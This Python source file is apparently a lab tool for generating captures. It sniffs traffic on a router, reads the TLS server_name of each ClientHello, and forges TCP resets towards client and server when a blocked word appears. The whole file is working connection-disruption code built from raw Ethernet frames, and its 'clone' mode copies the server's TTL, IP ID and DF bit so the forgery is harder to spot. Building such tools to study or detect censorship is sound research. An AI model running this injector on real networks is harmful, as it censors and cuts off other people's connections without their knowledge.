#!/usr/bin/env python3
"""An on-path reset forger, written for these captures.  It sniffs the frames
crossing a router (AF_PACKET on the client-facing and server-facing
interfaces), finds TLS ClientHellos whose server_name contains a blocked
word, and forges TCP resets in the server's name towards the client (and, with
--to-server, in the client's name towards the server), sent as raw Ethernet
frames.  IPv4 and IPv6.

--mode odd   : the forged reset has its own TTL/hop limit (--ttl), a random
               IPv4 ID and no DF bit, unlike the server's packets.
--mode clone : the forged reset copies the TTL/hop limit (and IPv4 ID and DF)
               of the server's latest packet as the client sees it, so that
               only its timing can give it away.
Usage: injector.py --cif IF --sif IF --block WORD [--mode odd|clone]
                   [--ttl N] [--to-server] [--seconds N]"""
import argparse, os, random, select, socket, struct, sys, time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def parse(frame):
    """-> dict with ip fields and tcp fields, or None"""
    if len(frame) < 14:
        return None
    etype = struct.unpack("!H", frame[12:14])[0]
    p = {"dmac": frame[0:6], "smac": frame[6:12], "etype": etype}
    if etype == 0x0800:
        ip = frame[14:]
        if len(ip) < 20 or ip[9] != 6:
            return None
        ihl = (ip[0] & 15) * 4
        tot = struct.unpack("!H", ip[2:4])[0]
        p.update(v=4, ttl=ip[8], ipid=struct.unpack("!H", ip[4:6])[0],
                 df=bool(ip[6] & 0x40), src=ip[12:16], dst=ip[16:20])
        tcp = ip[ihl:tot]
    elif etype == 0x86DD:
        ip = frame[14:]
        if len(ip) < 40 or ip[6] != 6:
            return None
        plen = struct.unpack("!H", ip[4:6])[0]
        p.update(v=6, ttl=ip[7], ipid=None, df=True, src=ip[8:24], dst=ip[24:40])
        tcp = ip[40:40 + plen]
    else:
        return None
    if len(tcp) < 20:
        return None
    sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", tcp[:14])
    p.update(sport=sport, dport=dport, seq=seq, ack=ack, flags=flags,
             payload=tcp[(off >> 4) * 4:])
    return p


def sni_of(payload):
    """server_name of a ClientHello that starts in this segment, if present"""
    try:
        if payload[0] != 0x16 or payload[1] != 3 or payload[5] != 1:
            return None
        i = 5 + 4 + 2 + 32
        i += 1 + payload[i]                                   # session id
        i += 2 + struct.unpack("!H", payload[i:i + 2])[0]     # cipher suites
        i += 1 + payload[i]                                   # compression
        end = i + 2 + struct.unpack("!H", payload[i:i + 2])[0]
        i += 2
        while i + 4 <= min(end, len(payload)):
            etype, elen = struct.unpack("!HH", payload[i:i + 4])
            if etype == 0:
                n = struct.unpack("!H", payload[i + 7:i + 9])[0]
                return payload[i + 9:i + 9 + n].decode("ascii", "replace")
            i += 4 + elen
    except (IndexError, struct.error):
        pass
    return None


def build(v, smac, dmac, src, dst, ttl, ipid, df, sport, dport, seq, ack, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 0, 0, 0)
    if v == 4:
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ipid,
                          0x4000 if df else 0, ttl, 6, 0, src, dst)
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        return dmac + smac + b"\x08\x00" + hdr + tcp
    pseudo = src + dst + struct.pack("!IxxxB", len(tcp), 6)
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    hdr = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, ttl, src, dst)
    return dmac + smac + b"\x86\xdd" + hdr + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--cif", required=True)
    ap.add_argument("--sif", required=True)
    ap.add_argument("--block", required=True)
    ap.add_argument("--mode", choices=("odd", "clone"), default="odd")
    ap.add_argument("--ttl", type=int, default=47)
    ap.add_argument("--to-server", action="store_true")
    ap.add_argument("--seconds", type=float, default=120)
    a = ap.parse_args()
    rnd = random.Random(os.getpid() ^ int(time.time()))
    socks = {}
    for name in (a.cif, a.sif):
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.bind((name, 0))
        socks[name] = s
    cfd, sfd = socks[a.cif].fileno(), socks[a.sif].fileno()
    server_last = {}   # flow -> (ttl, ipid, df) of the server's latest packet leaving towards the client
    server_mac = {}    # server ip -> (server mac, our sif mac)
    done = set()
    print("injector on %s/%s mode=%s block=%r to_server=%s" % (a.cif, a.sif, a.mode, a.block, a.to_server), flush=True)
    end = time.monotonic() + a.seconds
    while time.monotonic() < end:
        ready, _, _ = select.select([cfd, sfd], [], [], 0.5)
        for fd in ready:
            sock = socks[a.cif] if fd == cfd else socks[a.sif]
            frame, addr = sock.recvfrom(65535)
            p = parse(frame)
            if p is None:
                continue
            out = addr[2] == PACKET_OUTGOING
            if fd == sfd and not out and p["sport"] == 443:
                server_mac[p["src"]] = (p["smac"], p["dmac"])
                continue
            if fd != cfd:
                continue
            if out and p["sport"] == 443 and not p["flags"] & 0x04:
                server_last[(p["dst"], p["dport"])] = (p["ttl"], p["ipid"], p["df"])
                continue
            if out or p["dport"] != 443 or not p["payload"]:
                continue
            name = sni_of(p["payload"])
            key = (p["src"], p["sport"])
            if name is None or a.block not in name or key in done:
                continue
            done.add(key)
            t0 = time.monotonic()
            if a.mode == "clone":
                ttl, ipid, df = server_last.get(key, (a.ttl, 0, True))
                ipid = 0 if not ipid else (ipid + 1) & 0xFFFF
            else:
                ttl, ipid, df = a.ttl, rnd.randrange(1, 65536), False
            rst = build(p["v"], p["dmac"], p["smac"], p["dst"], p["src"], ttl, ipid, df,
                        443, p["sport"], p["ack"], (p["seq"] + len(p["payload"])) & 0xFFFFFFFF, 0x14)
            socks[a.cif].send(rst)
            msg = "forged RST to client port %d ttl=%d id=%s (sni %s)" % (p["sport"], ttl, ipid, name)
            if a.to_server and p["dst"] in server_mac:
                smac, ourmac = server_mac[p["dst"]]
                cttl = p["ttl"] - 1
                cid = (p["ipid"] + 1) & 0xFFFF if p["v"] == 4 else 0
                if a.mode != "clone":
                    cttl, cid = a.ttl, rnd.randrange(1, 65536)
                # the ClientHello is dropped further on, so the server still expects its first byte
                rst2 = build(p["v"], ourmac, smac, p["src"], p["dst"], cttl, cid, p["df"],
                             p["sport"], 443, p["seq"], p["ack"], 0x14)
                socks[a.sif].send(rst2)
                msg += "; forged RST to server ttl=%d id=%s" % (cttl, cid)
            print("%s (%.0f us after the ClientHello reached us)" % (msg, (time.monotonic() - t0) * 1e6), flush=True)


if __name__ == "__main__":
    main()
